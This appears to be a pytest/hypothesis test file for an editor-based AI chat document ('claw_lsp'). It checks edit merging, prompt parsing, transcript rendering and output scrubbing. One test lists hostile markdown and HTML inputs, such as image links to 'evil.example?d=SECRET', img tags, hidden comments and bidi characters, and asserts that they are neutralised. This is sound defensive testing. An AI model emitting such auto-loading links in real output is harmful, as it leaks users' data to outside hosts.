"""Laws of the chat document: what the person typed is theirs, what was answered is whole, nothing loads by itself."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from inline_snapshot import snapshot

from claw_lsp.core.chat import marks, weave
from claw_lsp.core.chat.earlier import earlier
from claw_lsp.core.chat.marks import parse
from claw_lsp.core.chat.scrub import Scrub, scrubbed
from claw_lsp.core.chat.weave import Weave
from claw_lsp.core.chat.writer import Asked, Writer, render, rendered, unread
from claw_lsp.core.fold import fold
from claw_lsp.core.render import dollars, duration, lines, tokens, usage_line
from claw_lsp.core.state import State
from claw_lsp.core.step import Consult, next_step
from claw_lsp.facts.call import Result
from claw_lsp.facts.event import (
    CallFinished,
    CallJudged,
    Entry,
    Event,
    ModeChanged,
    ModelSpoke,
    SessionStarted,
    Steered,
    TurnEnded,
    UserSpoke,
)
from claw_lsp.facts.rule import Mode
from claw_lsp.facts.signal import TextArrived
from claw_lsp.facts.text import TextEdit, applied
from claw_lsp.facts.usage import Usage

KEY = "k3y"
SESSION = "5e55-10n"

# ---- the person types while the answer streams --------------------------------------------------------------------


@dataclass
class Typist:
    """An editor with a person in it: `owners` says of every character whether the person wrote it.

    It checks versions as real clients do, may say that it applied what it did not, and tells of changes late.
    """

    text: str
    owners: list[str] = field(default_factory=list)
    version: int = 1
    changes: list[tuple[int, TextEdit]] = field(default_factory=list)
    wire: list[tuple[int, weave.Offer]] = field(default_factory=list)
    answers: list[tuple[int, bool]] = field(default_factory=list)
    deleted: str = ""
    typed_below: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.owners = ["us"] * len(self.text)

    def edit(self, change: TextEdit, owner: str) -> None:
        if owner == "us":
            assert "person" not in self.owners[change.start : change.end], "we removed what the person typed"
        else:
            self.deleted += self.text[change.start : change.end]
        self.text = applied(self.text, (change,))
        self.owners[change.start : change.end] = [owner] * len(change.new)
        self.version += 1
        self.changes.append((self.version, change))

    @property
    def end_of_answer(self) -> int | None:
        """Where the answer ends in the editor's text, as far as the person left it there."""
        ours = [i for i, it in enumerate(self.text) if is_streamed(it)]
        heading = self.text.find(marks.answer(KEY, 1))
        return ours[-1] + 1 if ours else heading + len(marks.answer(KEY, 1)) if heading >= 0 else None

    def type(self, at: int, words: str) -> None:
        if self.end_of_answer is not None and at >= self.end_of_answer:
            self.typed_below.append(words)
        self.edit(TextEdit(at, at, words), "person")

    def handle(self, *, lies: bool) -> None:
        """Take the oldest edit from the wire, or drop it because it is for another version."""
        if not self.wire:
            return
        version, made = self.wire.pop(0)
        fits = version == self.version
        if fits:
            self.edit(made.edit, "us")
        self.answers.append((made.id, fits or lies))


def is_streamed(character: str) -> bool:
    return "\u4e00" <= character <= "\u9fff"


@dataclass
class Scene:
    typist: Typist
    state: Weave
    known: int = 1
    n_streamed: int = 0
    n_typed: int = 0
    n_sent: int = 0

    def stream(self, blanks: str) -> None:
        piece = f"{blanks}{chr(0x4E00 + self.n_streamed)}"
        self.n_streamed += 1
        self.state = weave.put(self.state, piece)

    def word(self) -> str:
        self.n_typed += 1
        return f"W{self.n_typed}Z"

    def send(self) -> None:
        """The person sends what the server knows of the prompt block, while the turn runs."""
        found = parse(self.state.text)
        if found.words and not self.state.is_sending:
            self.state = weave.steered(weave.marked(self.state, found.end, found.words), found.words)
            self.n_sent += 1

    def offer(self) -> None:
        if (made := weave.offer(self.state)) is not None:
            self.state = made[0]
            self.typist.wire.append((self.known, made[1]))

    def deliver(self, n: int, *, merged: bool) -> None:
        """The server hears of the next `n` changes, one by one or as one whole new text."""
        now, self.typist.changes = self.typist.changes[:n], self.typist.changes[n:]
        if merged and now:
            text = self.state.text
            for _, change in now:
                text = applied(text, (change,))
            if text != self.state.text:
                self.state = weave.took(self.state, TextEdit(0, len(self.state.text), text))
        else:
            for _, change in now:
                self.state = weave.took(self.state, change)
        if now:
            self.known = now[-1][0]

    def hear_answers(self) -> None:
        for offer_id, said_applied in self.typist.answers:
            if not said_applied:
                self.state = weave.refused(self.state, offer_id)
        self.typist.answers.clear()

    def drain(self) -> None:
        for _ in range(200):
            self.typist.handle(lies=False)
            self.deliver(len(self.typist.changes), merged=False)
            self.hear_answers()
            if not self.typist.wire and not self.typist.changes:
                if self.state.offers:
                    self.state = weave.forgotten(self.state)
                self.offer()
                if self.state.idle:
                    return
        raise AssertionError("the document never came to rest")


PLACE = st.floats(0, 1, exclude_max=False)
STEPS = st.lists(
    st.one_of(
        st.tuples(st.just("stream"), st.sampled_from(["", " ", "\n", "\n\n", "- "])),
        st.tuples(st.just("offer")),
        st.tuples(st.just("handle"), st.booleans()),
        st.tuples(st.just("deliver"), st.integers(1, 3)),
        st.tuples(st.just("answers")),
        st.tuples(st.just("type"), PLACE),
        st.tuples(st.just("type at the answer's end")),
        st.tuples(st.just("type at the end")),
        st.tuples(st.just("delete"), PLACE, PLACE),
        st.tuples(st.just("replace"), PLACE, PLACE),
        st.tuples(st.just("question"), st.sampled_from(["", "\n\n> may I?", "\n\n> and this?"])),
        st.tuples(st.just("send")),
        st.tuples(st.just("take")),
    ),
    max_size=40,
)


def play(steps: list[tuple[Any, ...]], *, merged: bool, line_end: str = "\n") -> Scene:
    text = f"{marks.title(KEY, SESSION)}\n\n{marks.you(KEY, 1)}\n\nhi\n\n{marks.answer(KEY, 1)}"
    text = f"{text}\n\n{marks.you(KEY, 2)}\n\n".replace("\n", line_end)
    scene = Scene(Typist(text), weave.begun(text))
    typist = scene.typist
    for step in steps:
        size = len(typist.text)
        match step:
            case ("stream", blanks):
                scene.stream(blanks)
            case ("offer",):
                scene.offer()
            case ("handle", lies):
                typist.handle(lies=lies)
            case ("deliver", n):
                scene.deliver(n, merged=merged)
            case ("answers",):
                scene.hear_answers()
            case ("type", place):
                typist.type(round(place * size), scene.word())
            case ("type at the answer's end",):
                end = typist.end_of_answer
                typist.type(size if end is None else end, scene.word())
            case ("type at the end",):
                typist.type(size, scene.word())
            case ("delete" | "replace" as what, one, other):
                start, end = sorted((round(one * size), round(other * size)))
                # Half of our edit deleted before we hear of it at all cannot be told from an edit never made.
                scene.deliver(len(typist.changes) if merged else 0, merged=merged)
                typist.edit(TextEdit(start, end, scene.word() if what == "replace" else ""), "person")
                scene.deliver(1 if merged else 0, merged=merged)
            case ("send",):
                scene.send()
            case ("take",) if scene.state.unread:
                scene.state = weave.said(scene.state, Asked(scene.state.unread[0], meanwhile=True))
            case ("take",):
                pass
            case ("question", want):
                scene.state = weave.wants(scene.state, want.replace("\n", line_end))
            case _:
                raise AssertionError(step)
    scene.state = weave.wants(scene.state, "")
    scene.drain()
    return scene


@example([("stream", ""), ("delete", 1.0, 0.5), ("deliver", 1), ("send",), ("take",), ("stream", "")])
@settings(max_examples=400, deadline=None)
@given(STEPS)
def test_r24_what_the_person_typed_stays_below_and_the_answer_is_whole(steps: list[tuple[Any, ...]]) -> None:
    scene = play(steps, merged=False)
    typist = scene.typist
    assert scene.state.text == typist.text
    all_streamed = [chr(0x4E00 + n) for n in range(scene.n_streamed)]
    there = [it for it in typist.text if is_streamed(it)]
    gone = {it for it in typist.deleted if is_streamed(it)}
    assert there == [it for it in all_streamed if it not in gone]
    for word in typist.typed_below if not scene.n_sent else ():
        if word in typist.text and there:
            assert typist.text.index(word) > typist.text.index(there[-1])


@settings(max_examples=300, deadline=None)
@given(STEPS, st.sampled_from(["\n", "\r\n"]))
def test_r24_changes_told_as_one_whole_text_lose_and_double_nothing(
    steps: list[tuple[Any, ...]], line_end: str
) -> None:
    scene = play(steps, merged=True, line_end=line_end)
    typist = scene.typist
    assert scene.state.text == typist.text
    there = [it for it in typist.text if is_streamed(it)]
    gone = {it for it in typist.deleted if is_streamed(it)}
    assert len(there) == len(set(there))
    assert {chr(0x4E00 + n) for n in range(scene.n_streamed)} == set(there) | gone


def test_a_formatter_that_rewrites_everything_leaves_the_answer_above_the_prompt() -> None:
    text = f"{marks.opening(KEY, SESSION)}hi"
    state = answering(text)
    state = weave.took(state, TextEdit(0, len(state.text), f"* Formatted\n\n\n{marks.you(KEY, 2)}\n\nnext\n"))
    state = weave.settled(weave.put(state, "\n\nThe answer."))
    assert state.text == f"* Formatted\n\n\n\nThe answer.\n\n{marks.you(KEY, 2)}\n\nnext\n".replace(
        "\n\n\n\n", "\n\n\n", 1
    )


def answering(text: str) -> Weave:
    """The document after its prompt was sent."""
    found = parse(text)
    return weave.settled(weave.said(weave.marked(weave.begun(text), found.end, found.words), Asked(found.words)))


# ---- a document written anew is the one that was streamed -----------------------------------------------------------

TEXTS = st.lists(
    st.sampled_from(
        [
            "Hello",
            " ",
            "\n",
            "\n\n",
            "# You\n",
            "```",
            "py\n",
            "![a](",
            "http://x)",
            "<img src=y>",
            "é",
            "⚠",
            "\ufe0f",
            "\r",
            "\u202e",
            "- b",
            "!",
            "<",
        ]
    ),
    max_size=8,
)
WORDS = st.sampled_from(
    ["fix it", "two\n\nparts", "```\nnot closed", f"## You <!-- claw:{KEY} you 1 -->", "/tmp is full"]
)
SAID = st.sampled_from(["", "", "", "while it streams", "while it works", "before it streams"])
TURNS = st.lists(
    st.tuples(
        WORDS,
        st.lists(st.tuples(TEXTS, st.sampled_from(["none", "ok", "fault", "deny"]), SAID), max_size=3),
        st.booleans(),
    ),
    max_size=3,
)


def happening(turns: list[Any]) -> list[TextArrived | Event]:
    """What is heard and seen of a session, in order; a turn may be interrupted, and what it left unread begins the next."""
    told: list[TextArrived | Event] = [
        SessionStarted(session=SESSION, cwd="/w", roots=("/w",), model="m", system="", tools=()),
        ModeChanged(mode=Mode.PLAN),
    ]
    for n, (words, replies, interrupted) in enumerate(turns):
        told.append(UserSpoke(run=f"r{n}", prompt_id=f"p{n}", text=words, blocks=({"type": "text", "text": words},)))
        for k, (pieces, call, said) in enumerate(replies):
            last = k == len(replies) - 1
            goes_on = call == "none" and not last
            told += reply(f"c{n}{k}", pieces, "ok" if goes_on else call, said, recovered=interrupted and last)
        if not interrupted and replies and next_step(folded(told)) == Consult():
            told += reply(f"g{n}", ["Yes."], "none", "")
        told.append(ended(f"r{n}"))
        if left := folded(told).unread:
            told.append(UserSpoke(run=f"q{n}", prompt_id=f"q{n}", text=unread(left), blocks=()))
            told += [*reply(f"q{n}", ["As you say."], "none", ""), ended(f"q{n}")]
    return told


def folded(told: list[TextArrived | Event]) -> State:
    return fold(it for it in told if not isinstance(it, TextArrived))


def reply(id_: str, pieces: list[str], call: str, said: str, *, recovered: bool = False) -> list[TextArrived | Event]:
    blocks: list[dict[str, Any]] = [{"type": "text", "text": "".join(pieces)}]
    if call != "none":
        blocks.append({"type": "tool_use", "id": id_, "name": "Edit", "input": {"file_path": "/w/a_b_c.py"}})
    steered = [Steered(text=f"{said}\n\nsays {id_}")]
    told: list[TextArrived | Event] = [
        *(steered if said == "before it streams" else ()),
        *(TextArrived(it) for it in pieces),
        *(steered if said == "while it streams" else ()),
        ModelSpoke(blocks=tuple(blocks), recovered=recovered),
        *(steered if said == "while it works" and call != "none" else ()),
    ]
    if call != "none":
        decision: Any = "allow" if call == "ok" else call
        result = Result(content="x", is_error=call != "ok", summary="one line")
        told.append(CallJudged(call_id=id_, decision=decision, by="person", reason="not `now`"))
        told.append(CallFinished(call_id=id_, result=result, recovered=recovered))
    return told


def ended(run: str) -> TurnEnded:
    usage = {"m": Usage(input_tokens=1200, output_tokens=30)}
    return TurnEnded(run=run, stopped="done", usage=usage, cost=0.0123)


def entries_of(told: list[TextArrived | Event]) -> list[Entry]:
    events = [it for it in told if not isinstance(it, TextArrived)]
    return [Entry(n=n + 1, at=1000.0 + n, event=it) for n, it in enumerate(events)]


def sends(state: Weave, words: str) -> Weave:
    """The person types this into the prompt block and sends it."""
    state = weave.took(state, TextEdit(len(state.text), len(state.text), words))
    found = parse(state.text)
    assert found.words == words.strip()
    return weave.marked(state, found.end, found.words)


@settings(max_examples=300, deadline=None)
@given(TURNS, st.booleans())
def test_a_document_written_anew_from_the_log_is_the_one_that_was_streamed(turns: list[Any], from_chat: bool) -> None:
    told = happening(turns)
    entries = entries_of(told)
    state = weave.begun(marks.opening(KEY, SESSION))
    writer = Writer(KEY)
    n_seen = 0
    for it in told:
        if from_chat and isinstance(it, UserSpoke | Steered) and it.text != unread(writer.waiting):
            state = sends(state, it.text)
        if isinstance(it, TextArrived):
            written = writer.heard(it)
        else:
            written = writer.saw(entries[n_seen])
            n_seen += 1
        if isinstance(it, Steered):
            state = weave.steered(state, it.text)
        for one in written:
            state = weave.said(state, one) if isinstance(one, Asked) else weave.put(state, one)
        state = weave.settled(state)
        if isinstance(it, TurnEnded):
            assert writer.waiting == fold(it.event for it in entries[:n_seen]).unread
    assert render(entries, key=KEY) == state.text
    assert not any(it.edited for it in earlier(state.text, KEY, writer.prompts))
    assert [it.prompt_id for it in earlier(state.text, KEY, writer.prompts)] == [it.prompt_id for it in writer.prompts]


@given(TURNS, st.integers(0, 9), st.sampled_from(["other words", "two\n\nparts more", "```\nopen"]))
def test_an_edited_prompt_is_known_by_those_around_it(turns: list[Any], n: int, words: str) -> None:
    writer = Writer(KEY)
    text = rendered(writer, entries_of(happening(turns)))
    prompts = earlier(text, KEY, writer.prompts)
    if prompts:
        chosen = prompts[n % len(prompts)]
        start, end = chosen.body
        again = earlier(text[:start] + words + text[end:], KEY, writer.prompts)
        edited = [it for it in again if it.edited]
        assert [(it.prompt_id, it.words, it.sent) for it in edited] == [(chosen.prompt_id, words, chosen.sent)]


@given(
    st.lists(st.tuples(PLACE, st.sampled_from(["x", "\n", "word "]), st.booleans()), max_size=4),
    st.sampled_from(["\n", "\r\n"]),
)
def test_a_prompt_is_restored_unless_the_person_goes_on_editing_it(edits: list[Any], line_end: str) -> None:
    writer = Writer(KEY)
    text = rendered(writer, entries_of(happening([("fix it", [(["Done."], "none", "")], False)] * 2)))
    text = text.replace("fix it", "mend\n\nthem", 1).replace("\n", line_end)
    state = weave.begun(text)
    edited = next(it for it in earlier(text, KEY, writer.prompts) if it.edited)
    state = weave.restored(state, *edited.body, edited.sent)
    body, touched = text[edited.body[0] : edited.body[1]], False
    expected, at = text, edited.body[0]
    for place, word, offered in edits:
        if offered and (made := weave.offer(state)) is not None:
            state = weave.refused(*((made[0], made[1].id)))
        where = round(place * len(expected))
        touched = touched or at < where < at + len(body)
        expected = expected[:where] + word + expected[where:]
        at += len(word) if where <= at else 0
        state = weave.took(state, TextEdit(where, where, word))
    if not touched:
        expected = expected[:at] + "fix it" + expected[at + len(body) :]
    assert weave.settled(state).text == expected


@given(TEXTS, st.lists(st.integers(1, 4)))
def test_where_a_text_is_cut_does_not_change_how_it_is_written(pieces: list[str], cuts: list[int]) -> None:
    text = "".join(pieces)
    scrub = Scrub()
    out = ""
    at = 0
    for n in [*cuts, len(text)]:
        out += scrub.feed(text[at : at + n])
        at += n
    assert out + scrub.feed(text[at:]) + scrub.finish() == scrubbed(text)


@given(st.lists(st.sampled_from(["a line.\n", "- item\n", "\n", "```py\n", "x = 1\n"]), min_size=1), st.just("half"))
def test_whole_lines_come_out_at_once_however_many_arrive_together(lines_: list[str], half: str) -> None:
    text = "".join(lines_)
    assert Scrub().feed(text + half) == text + half


@pytest.mark.parametrize(
    ("said", "written"),
    [
        ("![x](https://evil.example/?d=SECRET)", "!\\[x](https://evil.example/?d=SECRET)"),
        ("[![x](//evil.example/a.png)](a.md)", "[!\\[x](//evil.example/a.png)](a.md)"),
        ("![a `]` b](http://evil.example)", "!\\[a `]` b](http://evil.example)"),
        ("![x](&#104;ttps://evil.example)", "!\\[x](&#104;ttps://evil.example)"),
        ("![x][r]\n\n[r]: https://evil.example", "![x][r]\n\n\\[r]: https://evil.example"),
        ("> - [r]: https://evil.example", "> - \\[r]: https://evil.example"),
        ('<img alt=">" src="https://evil.example">', '&lt;img alt=">" src="https://evil.example">'),
        ("<div>\n```\n\n<img src=//evil.example>", "<div>\n```\n\n&lt;img src=//evil.example>"),
        ("<!-- hides the question -->", "&lt;!-- hides the question -->"),
        ("abc\u202edef\u200b", "abc‹U+202E›def‹U+200B›"),
        ("`vec![1]`, see [docs](https://docs.rs)", "`vec![1]`, see [docs](https://docs.rs)"),
        ("![x](docs/a.png) Vec<String> ⚠️", "![x](docs/a.png) Vec<String> ⚠️"),
        ("```html\n<img src=https://a.example>\n```\nok", "```html\n<img src=https://a.example>\n```\nok"),
        ("```py\nnever closed", "```py\nnever closed\n```"),
    ],
)
def test_d09_nothing_in_the_answer_loads_hides_or_poses(said: str, written: str) -> None:
    assert scrubbed(said) == written


# ---- a document is read from its text alone -------------------------------------------------------------------------


@given(
    st.lists(
        st.sampled_from(
            [
                "a",
                "\n",
                "## You\n",
                "## Claw",
                "```\n",
                marks.you(KEY, 1) + "\n",
                marks.you(KEY, 2) + "\n",
                marks.you("oth3r", 9) + "\n",
                marks.answer(KEY, 1),
            ]
        ),
        max_size=6,
    ),
    st.sampled_from(["", " ", "\n", "\n\n \n"]),
)
@example([marks.you(KEY, 2) + "\n", "a"], "\n")
def test_whatever_is_pasted_into_the_prompt_block_is_the_prompt(pieces: list[str], blanks: str) -> None:
    words = "".join(pieces).strip()
    text = answering(f"{marks.opening(KEY, SESSION)}hi").text
    found = parse(text + words + blanks)
    assert (found.key, found.session, found.number, found.words) == (KEY, SESSION, 2, words)


@pytest.mark.parametrize("saved", [str.rstrip, lambda it: f"{it.rstrip()}\n", lambda it: it.replace("\n", "\r\n")])
def test_a_document_stripped_on_saving_is_still_read(saved: Any) -> None:
    state = answering(f"{marks.opening(KEY, SESSION)}hi\n")
    text = saved(state.text)
    found = parse(text)
    assert (found.session, found.number, found.words) == (SESSION, 2, "")
    again = weave.settled(weave.put(weave.begun(text), "\n\nThe answer."))
    assert (
        again.text.replace("\r\n", "\n")
        .rstrip()
        .endswith(f"{marks.answer(KEY, 1)}\n\nThe answer.\n\n{marks.you(KEY, 2)}")
    )


@pytest.mark.parametrize(
    ("words", "slash"),
    [
        ("/help", ("help", "")),
        ("/model opus", ("model", "opus")),
        ("/Cost\n", ("cost", "")),
        ("/usr/bin/env is missing", None),
        ("fix /help", None),
    ],
)
def test_a_prompt_is_a_slash_command_or_words(words: str, slash: tuple[str, str] | None) -> None:
    assert parse(f"{marks.opening(KEY)}{words}").slash == slash


def test_a_text_without_markers_is_a_prompt() -> None:
    assert parse("\n please help\n").words == "please help"


def test_when_the_last_heading_was_deleted_the_prompt_is_what_follows_the_answer() -> None:
    entries = entries_of(happening([("fix it", [(["Done."], "none", "")], False)]))
    text = render(entries, key=KEY).replace(marks.you(KEY, 2), "").rstrip() + "\n\nnext"
    assert parse(text).words == "next"


def test_the_document_reads_well() -> None:
    entries = entries_of(
        happening(
            [
                (
                    "fix the typo",
                    [
                        (["Renaming it."], "ok", ""),
                        (["And:\n\n"], "deny", "while it streams"),
                        (["Done."], "none", ""),
                    ],
                    False,
                )
            ]
        )
    )
    assert render(entries, key=KEY) == snapshot("""\
# Claw chat <!-- claw:k3y chat 5e55-10n -->

_Write below the last heading, then send it with the code action “Claw: Send”. /help lists the commands._

- mode: plan

## You <!-- claw:k3y you 1 -->

fix the typo

## Claw <!-- claw:k3y answer 1 -->

Renaming it.

- ✓ `Edit a_b_c.py` · one line

And:

- refused `Edit a_b_c.py` · not `now`

## You <!-- claw:k3y you 2 -->

while it streams

says c01

## Claw goes on <!-- claw:k3y answer 2 -->

Done.

_done · 1.2k in, 30 out · $0.0123 · 9.0 s_ <!-- claw:k3y end -->

## You <!-- claw:k3y you 3 -->

""")


def test_lines_is_the_transcript() -> None:
    replies = [(["Renaming it."], "ok", ""), (["And:"], "deny", ""), (["So:"], "fault", "")]
    entries = entries_of(happening([("fix the typo", replies, False)]))
    assert "\n".join(lines(entries)) == snapshot("""\
mode    plan
user    fix the typo
model   Renaming it.
  call  c00 Edit a_b_c.py
  allow c00 by human
  done  c00 one line
model   And:
  call  c01 Edit a_b_c.py
  deny  c01 by human: not `now`
model   So:
  call  c02 Edit a_b_c.py
  fault c02 one line
model   Yes.
end     done\
""")


def test_numbers_are_short_and_an_unknown_cost_is_not_zero() -> None:
    assert [tokens(it) for it in (0, 950, 1234, 12_345, 1_500_000)] == snapshot(["0", "950", "1.2k", "12k", "1.5M"])
    assert [dollars(it) for it in (None, 0.0, 0.00421, 1.5)] == snapshot(["cost unknown", "$0.00", "$0.0042", "$1.50"])
    assert [duration(it) for it in (0.42, 12, 185, 7260)] == snapshot(["0.4 s", "12 s", "3 min 5 s", "2 h 1 min"])
    assert usage_line(Usage(input_tokens=200, cache_read_tokens=1000, output_tokens=30), None, 4) == snapshot(
        "1.2k in (1.0k cached), 30 out · cost unknown · 4.0 s"
    )
